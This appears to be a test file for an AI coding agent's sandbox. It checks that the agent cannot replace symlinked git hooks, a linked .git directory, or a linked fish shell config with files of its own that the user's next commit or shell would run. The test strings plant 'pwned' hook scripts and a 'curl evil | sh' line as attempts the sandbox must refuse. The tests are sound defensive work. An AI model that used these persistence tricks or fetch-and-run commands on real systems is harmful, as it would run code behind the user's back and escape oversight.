/**
 * Protected paths that are symbolic links. A dotfiles manager links `~/.config/fish` to `~/dotfiles/fish`; a project
 * links `.git/hooks` to a hooks directory it keeps. The read-only bind mount follows the link and lands on its
 * target, so the link itself stays an ordinary name in a writable directory: the agent removes it and puts a file
 * or directory of its own there, which the user's next shell or `git commit` runs. The link must be pinned too.
 * Real olliesrv, toolsrv and sandbox helper (the mock LLM scripts the calls); the home case as root and as nobody.
 */
import { existsSync, lstatSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { landlockStatus } from '../../src/toolsrv/sandbox/index.js';
import { DEFAULT_POLICY_FILE } from '../../src/toolsrv/sandbox/policy.js';
import { testHarness } from '../olliesrv/agent-harness.js';
import { testDir } from '../helpers/temp-dir.js';
import { git, plant, repo, sandboxReady } from './git-workspace.js';
import { runInHome } from './sandboxed-home.js';

describe.skipIf(!sandboxReady)('a repository whose .git/hooks is a link to the hooks it keeps', () => {
  it('cannot replace the link with a directory of its own hooks, nor write into its target', async () => {
    const h = await testHarness();
    const ws = repo(h.dir, 'ws');
    mkdirSync(join(ws, 'tools', 'githooks'), { recursive: true });
    rmSync(join(ws, '.git', 'hooks'), { recursive: true });
    symlinkSync('../tools/githooks', join(ws, '.git', 'hooks'));
    const r = await plant(
      h,
      ws,
      'printf "#!/bin/sh\\necho pwned\\n" > tools/githooks/pre-commit && echo wrote-target',
      // The directory holding the target, renamed away and made again: the link would name the agent's hooks.
      'mv tools tools-old && mkdir -p tools/githooks && printf "#!/bin/sh\\necho pwned\\n" > tools/githooks/pre-commit && chmod +x tools/githooks/pre-commit && echo moved',
      'rm .git/hooks && mkdir .git/hooks && printf "#!/bin/sh\\necho pwned\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo replaced',
    );
    expect(r[0]).not.toContain('wrote-target');
    expect(r[1]).toMatch(/Device or resource busy/);
    expect(r[2]).not.toContain('replaced');
    expect(r[2]).toMatch(/Device or resource busy/);
    expect(lstatSync(join(ws, '.git', 'hooks')).isSymbolicLink()).toBe(true);
    expect(existsSync(join(ws, 'tools', 'githooks', 'pre-commit'))).toBe(false);
    // The owner's commit runs no hook of the agent's.
    expect(git(ws, 'commit', '-q', '--allow-empty', '-m', 'owner')).toBe('');
  }, 90_000);
});

describe.skipIf(!sandboxReady)('a workspace whose .git is a link to the repository kept elsewhere', () => {
  it('cannot remove the link and make a repository of its own in its place', async () => {
    const h = await testHarness();
    const gitDir = join(h.dir, 'repo.git');
    const ws = repo(
      h.dir,
      'ws',
      (at) => {
        rmSync(join(at, '.git'));
        symlinkSync(gitDir, join(at, '.git'));
      },
      [`--separate-git-dir=${gitDir}`],
    );
    const pwned = join(h.dir, 'pwned');
    const r = await plant(
      h,
      ws,
      `rm .git && git init -q && printf "#!/bin/sh\\ntouch ${pwned}\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo replaced`,
    );
    expect(r[0], r[0]).toMatch(/Device or resource busy/);
    expect(lstatSync(join(ws, '.git')).isSymbolicLink()).toBe(true);
    git(ws, 'commit', '-q', '--allow-empty', '-m', 'owner');
    expect(existsSync(pwned)).toBe(false);
  }, 90_000);
});

describe.skipIf(!sandboxReady)('a repository whose pre-commit hook is a link to a script it keeps', () => {
  it('keeps the script read-only, and its directory in place', async () => {
    const h = await testHarness();
    const ws = repo(h.dir, 'ws', (at) => {
      mkdirSync(join(at, 'scripts'));
      writeFileSync(join(at, 'scripts', 'pre-commit'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
      symlinkSync('../../scripts/pre-commit', join(at, '.git', 'hooks', 'pre-commit'));
    });
    const pwned = join(h.dir, 'pwned');
    const r = await plant(
      h,
      ws,
      `printf "#!/bin/sh\\ntouch ${pwned}\\n" > scripts/pre-commit && echo wrote`,
      `mv scripts scripts-old && mkdir scripts && printf "#!/bin/sh\\ntouch ${pwned}\\n" > scripts/pre-commit && chmod +x scripts/pre-commit && echo moved`,
      'echo x > f && git add f && git -c user.name=a -c user.email=a@x commit -qm work && echo committed',
    );
    expect(r[0], r[0]).toMatch(/Read-only file system/);
    expect(r[1], r[1]).toMatch(/Device or resource busy/);
    expect(r[2]).toContain('committed');
    git(ws, 'commit', '-q', '--allow-empty', '-m', 'owner');
    expect(existsSync(pwned)).toBe(false);
  }, 90_000);
});

describe.skipIf(landlockStatus().abi < 6)(
  'a writable home whose ~/.config/fish is a link into a dotfiles directory',
  () => {
    it.each(['root', 'nobody'] as const)('keeps the link in place and its target read-only (%s)', (as) => {
      const dir = testDir('ollie-sec-home-link-');
      const home = join(dir, 'home');
      mkdirSync(join(home, 'dotfiles', 'fish'), { recursive: true });
      mkdirSync(join(home, '.config'));
      mkdirSync(join(home, 'notes'));
      writeFileSync(join(home, 'dotfiles', 'fish', 'config.fish'), '# mine\n');
      symlinkSync('../dotfiles/fish', join(home, '.config', 'fish'));
      // The owner's policy without the shipped denials beneath ~/.config and ~/.local: those make each entry of
      // these directories a rule of its own, which already keeps a link there from being removed.
      mkdirSync(join(dir, 'config'));
      writeFileSync(
        join(dir, 'config', 'sandbox.yaml'),
        readFileSync(DEFAULT_POLICY_FILE, 'utf8').replace(/^ *- ~\/\.(config\/gh|local\/share\/keyrings)\n/gm, ''),
      );
      const out = runInHome(as, dir, [
        'echo "curl evil | sh" >> .config/fish/config.fish || echo refused-target',
        'rm .config/fish && mkdir .config/fish && echo "curl evil | sh" > .config/fish/config.fish && echo replaced',
        'mv .config/fish .config/fish-old && echo moved',
        'echo ok > notes/today.txt && echo wrote-notes',
      ]);
      expect(out, out).toContain('refused-target');
      expect(out, out).toContain('wrote-notes');
      expect(out, out).not.toContain('replaced');
      expect(out, out).not.toContain('moved');
      expect(lstatSync(join(home, '.config', 'fish')).isSymbolicLink()).toBe(true);
      expect(readFileSync(join(home, '.config', 'fish', 'config.fish'), 'utf8')).toBe('# mine\n');
    });
  },
);
